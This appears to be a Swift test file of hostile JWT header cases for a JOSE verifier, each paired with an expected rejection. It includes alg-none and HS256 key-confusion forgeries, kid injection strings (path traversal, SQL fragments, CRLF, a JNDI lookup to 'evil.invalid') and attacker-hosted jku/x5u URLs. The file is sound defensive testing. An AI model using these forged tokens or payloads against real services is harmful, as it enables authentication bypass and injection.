internal import JOSE

/// The header (RFC 7515, section 4; RFC 8725). Every token is signed RS256 by the right key unless its case differs.
extension HostileCase {
    private static func header(_ cause: String, _ text: String) -> HostileCase {
        HostileCase(.header, label(text), .invalid(cause: cause)) {
            try $0.token(header: text)
        }
    }

    private static func accepted(_ text: String) -> HostileCase {
        HostileCase(.header, label(text), .accepted) { try $0.token(header: text) }
    }

    private static func bytes(_ name: String, _ cause: String, _ header: [UInt8]) -> HostileCase {
        HostileCase(.header, name, .invalid(cause: cause)) { try $0.token(header: header) }
    }

    static let headerCases: [HostileCase] =
        algorithmCases + confusionCases + keyIDCases + embeddedKeyCases + extensionCases + typeCases + syntaxCases

    private static let algorithmCases: [HostileCase] =
        [
            #""none""#, #""None""#, #""NONE""#, #""nOnE""#, #""none ""#, #""""#, #""rs256""#, #""Rs256""#, #""RS256 ""#,
            #"" RS256""#, #""RS256\u0000""#, #""RS 256""#, #""ＲS256""#, #""RS384""#, #""RS512""#, #""RS1""#,
            #""PS256""#,
            #""PS384""#, #""PS512""#, #""ES256""#, #""ES256K""#, #""ES384""#, #""ES512""#, #""EdDSA""#, #""Ed25519""#,
            #""HS256""#, #""HS384""#, #""HS512""#, #""RSA-OAEP""#, #""dir""#, "null", "0", "256", "true", "{}", "[]",
            #"["RS256"]"#, #"["RS256","none"]"#, #"{"name":"RS256"}"#,
        ].map { header("alg_not_allowed", HostileFixture.header(alg: $0)) }
        + [
            header("alg_missing", #"{"kid":"key_1"}"#), header("alg_missing", #"{"Alg":"RS256","kid":"key_1"}"#),
            header("alg_missing", "{}"), accepted(HostileFixture.header(alg: #""RS\u0032\u00356""#)),
            HostileCase(.header, "none without a signature", .invalid(cause: "empty_segment")) {
                HostileFixture.join(Array(HostileFixture.header(alg: #""none""#).utf8), Array($0.claims().utf8)) + [
                    0x2E
                ]
            },
            HostileCase(.header, "none with some signature", .invalid(cause: "alg_not_allowed")) {
                let input = HostileFixture.join(
                    Array(HostileFixture.header(alg: #""none""#).utf8),
                    Array($0.claims().utf8)
                )
                return HostileFixture.join(input, signature: [0])
            },
            HostileCase(.header, "none without anything but an algorithm", .invalid(cause: "alg_not_allowed")) {
                HostileFixture.join(
                    HostileFixture.join(Array(#"{"alg":"none"}"#.utf8), Array($0.claims().utf8)),
                    signature: [0]
                )
            },
        ]

    private static let publicForms = [
        "modulus bytes", "the modulus as base64url", "PKCS#1 DER", "SubjectPublicKeyInfo DER", "PEM",
        "PEM without its last line break", "PKCS#1 PEM", "the key set's text",
    ]

    /// HMAC with a public value as its secret (CVE-2015-9235 and similar).
    private static let confusionCases: [HostileCase] = publicForms.enumerated().flatMap { index, form in
        [(#""HS256""#, "alg_not_allowed"), (#""RS256""#, "bad_signature")].map { algorithm, cause in
            HostileCase(.header, "\(algorithm), signed HS256 with \(form)", .invalid(cause: cause)) {
                let secret = try PublicForms.of($0.key)[index]
                let header = Array(HostileFixture.header(alg: algorithm).utf8)
                let input = HostileFixture.join(header, Array($0.claims().utf8))
                return HostileFixture.join(input, signature: HMACSHA256(key: secret).authenticate(input))
            }
        }
    }

    private static let keyIDCases: [HostileCase] =
        [
            #""../../etc/x""#, #""/dev/null""#, #""' OR 1=1""#, #""key_1' --""#, #""a\r\nSet-Cookie: x=y""#,
            #""key_1\u0000""#, #""key_1 ""#, #"" key_1""#, #""KEY_1""#, #""Key_1""#, #""key_3""#, #""key_""#, #""*""#,
            #""%s%n%x""#, #""${jndi:ldap://evil.invalid/a}""#, #""__proto__""#, #""constructor""#,
            #""https://evil.invalid""#,
            #""key_1,key_2""#, #""[\"key_1\"]""#, #""кey_1""#, #""0""#, "\"\(String(repeating: "k", count: 256))\"",
            "\"\(String(repeating: "é", count: 128))\"",
        ].map { header("unknown_kid", HostileFixture.header(kid: $0)) }
        + [
            "1", "0", "null", "true", "[]", #"["key_1"]"#, "{}", #"{"kid":"key_1"}"#, #""""#,
            "\"\(String(repeating: "k", count: 257))\"", "\"\(String(repeating: "é", count: 129))\"",
            "\"\(String(repeating: "k", count: 5000))\"",
        ].map { header("kid_invalid", HostileFixture.header(kid: $0)) }
        + [
            header("kid_missing", #"{"alg":"RS256"}"#), header("kid_missing", #"{"alg":"RS256","KID":"key_1"}"#),
            header("kid_missing", #"{"alg":"RS256","jwk":{"kty":"RSA","kid":"key_1"}}"#),
            header("token_too_long", HostileFixture.header(kid: "\"\(String(repeating: "k", count: 10_000))\"")),
            accepted(HostileFixture.header(kid: #""\u006bey_1""#)),
        ]

    private static let embeddedKeyCases: [HostileCase] =
        ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"].flatMap { name in
            [
                HostileCase(.header, "\(name) of an attacker, who signed it", .invalid(cause: "bad_signature")) {
                    try $0.token(header: HostileFixture.header(embedding(name, $0.attacker)), key: $0.attacker)
                },
                HostileCase(.header, "\(name) of an attacker, signed by the issuer", .accepted) {
                    try $0.token(header: HostileFixture.header(embedding(name, $0.attacker)))
                },
            ]
        }
        + [
            HostileCase(.header, "jwk of an attacker, and an unknown kid", .invalid(cause: "unknown_kid")) {
                let header = HostileFixture.header(embedding("jwk", $0.attacker), kid: #""mine""#)
                return try $0.token(header: header, key: $0.attacker)
            }
        ]

    private static func embedding(_ name: String, _ key: RSAPrivateKey) -> String {
        let n = String(decoding: Base64URL.encode(key.publicKey.modulus), as: UTF8.self)
        return switch name {
        case "jwk": #","jwk":{"kty":"RSA","kid":"key_1","use":"sig","alg":"RS256","n":"\#(n)","e":"AQAB"}"#
        case "x5c": #","x5c":["MIIB\#(n)"]"#
        case "jku", "x5u": #","\#(name)":"https://evil.invalid/keys""#
        default: #","\#(name)":"AAAA""#
        }
    }

    private static let extensionCases: [HostileCase] =
        [
            #"["exp"]"#, #"["x"]"#, "[]", #"["b64"]"#, #"["alg"]"#, #"["crit"]"#, #"["constructor"]"#,
            #"["__proto__"]"#,
            #"["toString"]"#, #"["exp","exp"]"#, #""exp""#, "null", "{}", "7", "false", "[null]", #"[""]"#,
        ].map { header("crit_present", HostileFixture.header(#","crit":\#($0)"#)) }
        + [
            header("crit_present", HostileFixture.header(#","crit":["x"],"x":1"#)),
            header("crit_present", HostileFixture.header(#","crit":["b64"],"b64":false"#)),
            header("crit_present", HostileFixture.header(#","\u0063rit":["x"]"#)),
            header("header_not_json", HostileFixture.header(#","crit":["x"],"crit":["x"]"#)),
            header("b64_present", HostileFixture.header(#","b64":false"#)),
            header("b64_present", HostileFixture.header(#","b64":true"#)),
            header("b64_present", HostileFixture.header(#","b64":null"#)),
            header("zip_present", HostileFixture.header(#","zip":"DEF""#)),
            header("zip_present", HostileFixture.header(#","zip":null"#)),
            header("enc_present", HostileFixture.header(#","enc":"A128GCM""#)),
            header("enc_present", HostileFixture.header(#","enc":null"#)),
        ]
        + ["constructor", "__proto__", "hasOwnProperty", "toString", "cty", "iss", "exp", "url", "nonce", ""].map {
            accepted(HostileFixture.header(#","\#($0)":"x""#))
        }

    private static let typeCases: [HostileCase] =
        [
            #""JOSE""#, #""JOSE+JSON""#, #""JWS""#, #""JWE""#, #""secevent+jwt""#, #""dpop+jwt""#, #""logout+jwt""#,
            #""id_token""#, #""""#, #""JWT ""#, #""JWT\u0000""#, #""jwt;x""#, #""application/""#,
            #""application/jose""#,
            #""text/jwt""#, "1", "null", "true", "{}", #"["JWT"]"#, "\"\(String(repeating: "x", count: 3000))\"",
        ].map { header("typ_not_allowed", HostileFixture.header(#","typ":\#($0)"#)) }
        + [
            #""JWT""#, #""jwt""#, #""at+jwt""#, #""AT+JWT""#, #""application/at+jwt""#, #""Application/JWT""#,
        ].map { accepted(HostileFixture.header(#","typ":\#($0)"#)) }

    private static let syntaxCases: [HostileCase] =
        [
            #"{"alg":"RS256","alg":"RS256","kid":"key_1"}"#, #"{"alg":"none","alg":"RS256","kid":"key_1"}"#,
            #"{"alg":"RS256","alg":"none","kid":"key_1"}"#, #"{"alg":"RS256","\u0061lg":"none","kid":"key_1"}"#,
            #"{"\u0061lg":"none","alg":"RS256","kid":"key_1"}"#, #"{"alg":"RS256","kid":"key_1","kid":"key_2"}"#,
            #"{"alg":"RS256","kid":"key_1","k\u0069d":"key_2"}"#, #"{"alg":"RS256","kid":"key_1","x":{"y":1,"y":2}}"#,
            #"{"alg":"RS256","kid":"key_1","x":1,"x":1}"#, #"{"alg":"RS256","kid":"key_1",}"#,
            #"{"alg":"RS256","kid":"key_1"} x"#, #"{"alg":"RS256","kid":"key_1"}{}"#, #"{"alg":"RS256","kid":"key_1""#,
            #"{'alg':'RS256','kid':'key_1'}"#, #"{alg:"RS256",kid:"key_1"}"#, #"{"alg":"RS256",/**/"kid":"key_1"}"#,
            #"{"alg":"RS256","kid":"key_1","x":NaN}"#, #"{"alg":"RS256","kid":"key_1","x":01}"#,
            #"{"alg":"RS256","kid":"key_1","x":1e400}"#, #"{"alg":"RS256","kid":"key_1","x":"\ud800"}"#,
            #"{"alg":"RS256","kid":"\udc00"}"#, #"{"alg":"RS256","kid":"key_1","x":"\x"}"#, " ", "x", "RS256", "\0",
            "\u{FEFF}" + #"{"alg":"RS256","kid":"key_1"}"#, "{\"alg\":\"RS256\",\"kid\":\"key_1\n\"}",
            #"{"alg":"RS256","kid":"key_1","x":"# + String(repeating: "[", count: 600)
                + String(repeating: "]", count: 600) + "}",
            #"{"alg":"RS256","kid":"key_1","x":"# + String(repeating: #"{"a":"#, count: 40) + "1"
                + String(repeating: "}", count: 41),
        ].map { header("header_not_json", $0) }
        + ["[]", #"["RS256"]"#, #""RS256""#, "7", "null", "true", #"[{"alg":"RS256","kid":"key_1"}]"#].map {
            header("header_not_object", $0)
        }
        + [
            bytes("UTF-16, little end first", "header_not_json", utf16(HostileFixture.header(), littleEndian: true)),
            bytes("UTF-16, big end first", "header_not_json", utf16(HostileFixture.header(), littleEndian: false)),
            bytes(
                "a byte that is not UTF-8",
                "header_not_json",
                Array(#"{"alg":"RS256","kid":""#.utf8) + [0xFF, 0x22, 0x7D]
            ),
            bytes(
                "an overlong slash",
                "header_not_json",
                Array(#"{"alg":"RS256","kid":""#.utf8) + [0xC0, 0xAF, 0x22, 0x7D]
            ),
            bytes(
                "a surrogate in UTF-8",
                "header_not_json",
                Array(#"{"alg":"RS256","kid":""#.utf8) + [0xED, 0xA0, 0x80, 0x22, 0x7D]
            ),
            bytes("a NUL behind", "header_not_json", Array(HostileFixture.header().utf8) + [0]),
            accepted(HostileFixture.header((0..<300).map { #","x\#($0)":\#($0)"# }.joined())),
            accepted(" { \"alg\" : \"RS256\" ,\r\n\t\"kid\" : \"key_1\" } \n"),
        ]

    static func utf16(_ text: String, littleEndian: Bool) -> [UInt8] {
        text.utf16.flatMap { unit in
            let bytes = [UInt8(unit & 0xFF), UInt8(unit >> 8)]
            return littleEndian ? bytes : bytes.reversed()
        }
    }
}
